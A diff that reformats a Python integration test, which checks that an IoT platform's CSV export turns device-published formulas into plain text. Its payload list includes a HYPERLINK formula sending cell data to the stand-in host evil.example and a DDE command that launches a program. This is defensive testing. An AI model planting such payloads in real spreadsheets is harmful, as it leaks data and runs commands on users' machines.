@@ -140,8 +140,15 @@ def test_export_refuses_viewers_foreign_devices_and_bad_ranges(app_pool, databas
 
 # The probe's payloads (a formula, a DDE command, an @ function, arithmetic), and the starts the
 # OWASP guidance adds: each must reach the spreadsheet as the text it is, never as a formula.
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"open")', "+1+cmd|' /C calc'!A0", "@SUM(A1)", "-1+1",
-            "\t=1+1", "\r=1+1", "=1+2;=3+4"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "-1+1",
+    "\t=1+1",
+    "\r=1+1",
+    "=1+2;=3+4",
+]
 
 
 def test_csv_export_of_formulas_a_device_published_opens_as_text(broker_api, monkeypatch, app_pool, azurite_server):
@@ -156,17 +163,30 @@ def test_csv_export_of_formulas_a_device_published_opens_as_text(broker_api, mon
     credential = reply.json["credential"]
     # WHEN the device publishes the formulas as text readings (and a negative number) through the
     # real broker, the drain stores them, and staff export them as CSV through the API
-    device = Device(broker_api, DeviceCredential(tenant["slug"], "press-01", credential["username"],
-                                                 credential["client_id"], credential["password"]))
+    device = Device(
+        broker_api,
+        DeviceCredential(
+            tenant["slug"], "press-01", credential["username"], credential["client_id"], credential["password"]
+        ),
+    )
     ts = int(NOW.timestamp() * 1000) - 60_000
-    mids = [device.publish("telemetry", {"ts": ts + i, "metrics": {"note": text, "temp": -3.5 - i}})
-            for i, text in enumerate(FORMULAS)]
+    mids = [
+        device.publish("telemetry", {"ts": ts + i, "metrics": {"note": text, "temp": -3.5 - i}})
+        for i, text in enumerate(FORMULAS)
+    ]
     assert set(device.wait_acked(mids).values()) == {0}
     device.close()
     run_mqtt_ingest()
-    reply = call("POST", "/api/exports", {"from": (NOW - timedelta(hours=1)).isoformat(),
-                                          "to": (NOW + timedelta(minutes=5)).isoformat(), "format": "csv"},
-                 token=token)
+    reply = call(
+        "POST",
+        "/api/exports",
+        {
+            "from": (NOW - timedelta(hours=1)).isoformat(),
+            "to": (NOW + timedelta(minutes=5)).isoformat(),
+            "format": "csv",
+        },
+        token=token,
+    )
     assert reply.status == 201, reply.body
     status, body = fetch(reply.json["url"])
     assert status == 200
@@ -179,5 +199,6 @@ def test_csv_export_of_formulas_a_device_published_opens_as_text(broker_api, mon
     assert [row["value"] for row in rows if row["metric"] == "temp"] == [str(-3.5 - i) for i in range(len(FORMULAS))]
     text = body.decode()
     assert '"\'=1+2;=3+4"' in text and ",-3.5," in text
-    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for key, cell in row.items()
-                   if key != "value")
+    assert not any(
+        cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for key, cell in row.items() if key != "value"
+    )
